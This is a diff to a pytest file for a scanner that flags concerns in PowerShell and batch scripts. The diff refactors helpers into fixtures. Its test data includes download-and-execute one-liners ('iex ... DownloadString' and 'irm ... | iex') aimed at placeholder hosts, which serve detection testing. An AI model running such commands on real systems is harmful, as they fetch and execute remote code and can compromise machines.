@@ -1,14 +1,16 @@
 """What scripts in PowerShell and batch files can do, and which of it is a concern: texts only, nothing is run."""
 
+from collections.abc import Callable
 from contextlib import suppress
 
 import pytest
 
 from skillpack.abilities.powershell.reader import powershell_readings
 from skillpack.abilities.source_text import SourceText
-from skillpack.model.ability import Ability, Concern
 
 RUN_KEY = r"HKCU:\Software\Microsoft\Windows\CurrentVersion\Run"
+Said = Callable[..., list[str]]
+
 HARMFUL = [
     ("iex (New-Object Net.WebClient).DownloadString('http://198.51.100.1/x')", "runs-downloaded stop 1"),
     ("irm https://get.example/x | iex", "runs-downloaded read-first 1"),
@@ -67,32 +69,24 @@ BATCH = [
 HOSTILE = ["a.b(c)" * 5000, "a | " * 5000, "(" * 5000, "$x=$x+'a'\n" * 5000, '"$("$("$(1)")")"\n' * 1000]
 
 
-def concerns(text: str, path: str = "s.ps1") -> list[str]:
-    found = dict.fromkeys(
-        each for each in powershell_readings(SourceText(path, text, "powershell")) if isinstance(each, Concern)
-    )
-    return [f"{each.kind} {each.level.name.lower().replace('_', '-')} {each.at.span.line}" for each in found]
-
-
 @pytest.mark.parametrize(("text", "expected"), HARMFUL)
-def test_a_concern_is_seen(text: str, expected: str) -> None:
-    assert expected in concerns(text)
+def test_a_concern_is_seen(concerns: Said, text: str, expected: str) -> None:
+    assert expected in concerns("powershell", text)
 
 
 @pytest.mark.parametrize("text", HARMLESS)
-def test_what_honest_scripts_do_is_no_concern(text: str) -> None:
-    assert concerns(text) == []
+def test_what_honest_scripts_do_is_no_concern(concerns: Said, text: str) -> None:
+    assert concerns("powershell", text) == []
 
 
 @pytest.mark.parametrize(("text", "expected"), BATCH)
-def test_a_batch_file_is_read_by_the_same_table(text: str, expected: str) -> None:
-    assert expected in concerns(text, "s.bat")
+def test_a_batch_file_is_read_by_the_same_table(concerns: Said, text: str, expected: str) -> None:
+    assert expected in concerns("powershell", text, "s.bat")
 
 
 @pytest.mark.parametrize(("text", "expected"), ABLE)
-def test_an_ability_is_seen(text: str, expected: str) -> None:
-    found = [each for each in powershell_readings(SourceText("s.ps1", text, "powershell")) if isinstance(each, Ability)]
-    assert expected in {f"{each.kind} {each.words} {each.target}".strip() for each in found}
+def test_an_ability_is_seen(abilities: Said, text: str, expected: str) -> None:
+    assert expected in abilities("powershell", text)
 
 
 @pytest.mark.parametrize("text", HOSTILE)
